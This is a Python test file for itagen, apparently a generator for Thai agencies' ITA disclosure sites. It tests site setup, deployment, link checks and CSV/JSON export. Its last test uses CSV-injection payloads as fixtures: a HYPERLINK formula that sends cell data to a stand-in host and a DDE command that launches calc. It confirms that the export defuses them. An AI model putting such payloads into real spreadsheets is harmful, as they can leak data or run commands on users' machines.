"""From nothing to published: itagen init, any host (sub-path, disk), and the ITAS answer sheet."""

from __future__ import annotations

import csv
import functools
import http.server
import io
import json
import shutil
import threading
from html.parser import HTMLParser
from urllib.error import HTTPError
from urllib.parse import unquote, urljoin, urlsplit
from urllib.request import urlopen

import pytest
import yaml

from itagen.build import build, load_site
from itagen.cli import main
from itagen.errors import ItagenError
from itagen.commands.export import answers
from itagen.commands.init import init_site

from .conftest import REPO
from .htmlcheck import local_targets

# These tests quote what messages say in English; test_messages.py checks the Thai.
pytestmark = pytest.mark.usefixtures("english")


def test_init_writes_a_site_that_builds_and_refuses_to_overwrite(tmp_path, capsys):
    root = tmp_path / "newsite"
    assert (
        main(
            [
                "init",
                str(root),
                "--year",
                "2566",
                "--name",
                "องค์การบริหารส่วนตำบลทดลอง",
                "--eit-url",
                "https://itas.nacc.go.th/go/eit/abc123",
            ]
        )
        == 0
    )
    out = capsys.readouterr().out
    assert "itagen serve" in out and "itagen check" in out and "itagen build" in out
    stubs = sorted(p.stem for p in (root / "content/2566").rglob("*.md"))
    assert len(stubs) == 43
    o21 = (root / "content/2566/9.3/O21.md").read_text(encoding="utf-8")
    assert "code: O21" in o21 and "#   3. เป็นข้อมูลแบบรายเดือน" in o21
    # What a build, the cache and the form write while saving stays out of the repository.
    ignored = (root / ".gitignore").read_text(encoding="utf-8").split()
    assert {"build/", ".itagen-cache/", ".itagen-edit/"} <= set(ignored)
    result = build(root)
    assert result.ok and (root / "build/2566/o43/index.html").is_file()
    assert "https://itas.nacc.go.th/go/eit/abc123" in (root / "build/2566/index.html").read_text(
        encoding="utf-8"
    )
    before = (root / "site.yaml").read_bytes()
    assert main(["init", str(root), "--year", "2566", "--name", "อื่น"]) == 1
    assert (root / "site.yaml").read_bytes() == before


def test_init_workflow_is_valid_yaml_with_the_pages_actions_in_order(tmp_path):
    init_site(tmp_path / "s", 2566, "องค์การบริหารส่วนตำบลทดลอง")
    flow = yaml.safe_load((tmp_path / "s/.github/workflows/itagen.yml").read_text(encoding="utf-8"))
    steps = flow["jobs"]["build"]["steps"] + flow["jobs"]["deploy"]["steps"]
    uses = [s["uses"].split("@")[0] for s in steps if "uses" in s]
    pages = [u for u in uses if u.endswith(("-pages", "-pages-artifact"))]
    assert pages == [
        "actions/configure-pages",
        "actions/upload-pages-artifact",
        "actions/deploy-pages",
    ]
    upload = next(s for s in steps if s.get("uses", "").startswith("actions/upload-pages-artifact"))
    assert upload["with"]["include-hidden-files"] is True
    runs = " ".join(s.get("run", "") for s in steps)
    assert "itagen check --format github" in runs and "steps.pages.outputs.base_url" in runs
    assert flow["permissions"] == {"contents": "read", "pages": "write", "id-token": "write"}


class _Links(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.urls: list[str] = []

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        for key in ("href", "src"):
            if a.get(key) and tag in ("a", "link", "img", "script"):
                self.urls.append(a[key])
        if tag == "meta" and a.get("http-equiv") == "refresh":
            self.urls.append(a["content"].split("url=", 1)[1])


@pytest.fixture
def sub_path_server(example_build, tmp_path):
    """Serve the example build under /agency/ita/ on a free loopback port."""
    www = tmp_path / "www"
    shutil.copytree(example_build, www / "agency" / "ita")
    handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=str(www))
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    handler.log_message = lambda *a: None
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}/agency/ita/"
    server.shutdown()
    server.server_close()


def test_every_page_link_and_asset_answers_200_under_a_deep_sub_path(sub_path_server):
    start = sub_path_server + "index.html"
    seen, queue, fetched = set(), [start], 0
    while queue:
        url = queue.pop()
        if url in seen:
            continue
        seen.add(url)
        try:
            with urlopen(url, timeout=5) as resp:
                assert resp.status == 200, url
                body = resp.read()
                ctype = resp.headers.get("Content-Type", "")
        except HTTPError as exc:  # pragma: no cover - reported as the failure
            pytest.fail(f"{url}: HTTP {exc.code}")
        fetched += 1
        if "text/html" in ctype:
            parser = _Links()
            parser.feed(body.decode("utf-8"))
            for link in parser.urls:
                target = urljoin(url, link).split("#")[0]
                if target.startswith(sub_path_server):
                    queue.append(target)
                else:
                    assert not target.startswith("http://127.0.0.1"), (
                        f"{url} leaves the sub-path: {link}"
                    )
    assert fetched > 150, fetched  # 43 item pages, their documents, assets, free pages


def test_opened_from_disk_every_link_finds_its_file(example_build):
    missing = [
        (p.relative_to(example_build), href)
        for p in example_build.rglob("*.html")
        for href, target in local_targets(p, example_build)
        if not target.is_file()
    ]
    assert missing == []


def test_every_exported_url_exists_in_the_build(example_build):
    site, _ = load_site(REPO)
    rows, _ = answers(site)
    base = site.config.base_url
    assert len(rows) == 43 and all(r.urls[0] == f"{base}2566/{r.code.lower()}/" for r in rows)
    checked = 0
    for row in rows:
        for url in row.urls:
            if not url.startswith(base):
                continue
            path = example_build / unquote(urlsplit(url).path[len(urlsplit(base).path) :])
            assert (path / "index.html").is_file() if url.endswith("/") else path.is_file(), url
            checked += 1
    assert checked >= 43 + 50
    o1 = rows[0]
    path = "เว็บไซต์หลัก https://www.bansuandokmai.example/ › เมนู ITA › ITA ๒๕๖๖ › ๙.๑ ข้อมูลพื้นฐาน › O1"
    assert o1.disclosed and path in o1.explanation


def test_export_csv_has_a_bom_and_thai_headers_and_json_round_trips(tmp_path, capsys):
    out = tmp_path / "itas.csv"
    assert main(["export", "itas", str(REPO), "-o", str(out)]) == 0
    raw = out.read_bytes()
    assert raw.startswith("\ufeff".encode("utf-8"))
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0][:3] == ["ข้อ", "รายการ", "การเปิดเผยข้อมูล"] and rows[0][-1] == "คำอธิบาย"
    assert [r[0] for r in rows[1:]] == [f"O{n}" for n in range(1, 44)]
    capsys.readouterr()
    assert main(["export", "itas", str(REPO), "--format", "json"]) == 0
    data = json.loads(capsys.readouterr().out)
    assert data["year"] == 2566 and [i["code"] for i in data["items"]] == [r[0] for r in rows[1:]]
    assert data["items"][0]["urls"] == [u for u in rows[1][3:-1] if u]


def test_export_without_base_url_is_a_clear_error(site):
    text = (
        (site.root / "site.yaml")
        .read_text(encoding="utf-8")
        .replace("base_url: https://example.org/ita/\n", "")
    )
    site.write("site.yaml", text)
    loaded, _ = load_site(site.root)
    with pytest.raises(ItagenError, match="public address"):
        answers(loaded)
    assert main(["export", "itas", str(site.root)]) == 1


def test_base_url_option_overrides_site_yaml_and_cname_is_written(site):
    text = (site.root / "site.yaml").read_text(encoding="utf-8") + "cname: ita.example.go.th\n"
    site.write("site.yaml", text)
    assert main(["build", str(site.root), "--base-url", "https://ci.example.io/repo", "-q"]) == 0
    data = json.loads((site.root / "build/ita.json").read_text(encoding="utf-8"))
    assert data["base_url"] == "https://ci.example.io/repo/"
    assert (site.root / "build/CNAME").read_text() == "ita.example.go.th\n"


def test_a_fresh_init_site_is_checked_and_the_workflow_still_deploys_it(tmp_path, capsys):
    """The generated workflow runs check first: a site still being filled in must still deploy."""
    root = tmp_path / "s"
    init_site(root, 2566, "องค์การบริหารส่วนตำบลทดลอง", eit="abc123")
    assert main(["check", str(root), "--format", "github"]) == 1
    out = capsys.readouterr().out
    assert any(
        line.startswith("::error file=") and "content/2566/9.1/O1.md" in line
        for line in out.splitlines()
    )
    flow = yaml.safe_load((root / ".github/workflows/itagen.yml").read_text(encoding="utf-8"))
    check = next(s for s in flow["jobs"]["build"]["steps"] if "itagen check" in s.get("run", ""))
    assert check["continue-on-error"] is True
    assert (
        "pull_request" in flow[True]
        and flow["jobs"]["deploy"]["if"] == "github.event_name != 'pull_request'"
    )


def test_export_csv_neutralises_spreadsheet_formulas(site, tmp_path):
    # A title made for Excel to run (OWASP "CSV Injection"): each such cell gets a leading quote.
    site.item(
        "9.1",
        "O2",
        """
        title: '=HYPERLINK("https://evil.example/?x="&A1,"คลิก")'
    """,
        "ข้อมูล\\n",
    )
    site.item("9.1", "O3", "title: '@SUM(1+1)*cmd|'' /C calc''!A0'", "ข้อมูล\\n")
    site.item("9.1", "O4", "title: '+1+1'", "ข้อมูล\\n")
    site.item("9.1", "O5", "title: '-2+3'", "ข้อมูล\\n")
    out = tmp_path / "itas.csv"
    assert main(["export", "itas", str(site.root), "-o", str(out)]) == 0
    rows = {r[0]: r for r in csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig")))}
    assert rows["O2"][1] == "'=HYPERLINK(\"https://evil.example/?x=\"&A1,\"คลิก\")"
    assert rows["O3"][1].startswith("'@SUM")
    assert rows["O4"][1] == "'+1+1" and rows["O5"][1] == "'-2+3"
    for row in rows.values():
        assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in row)
    from itagen.commands.export import cell

    assert cell("\t=1") == "'\t=1" and cell("\r=1") == "'\r=1" and cell("ข้อมูล") == "ข้อมูล"
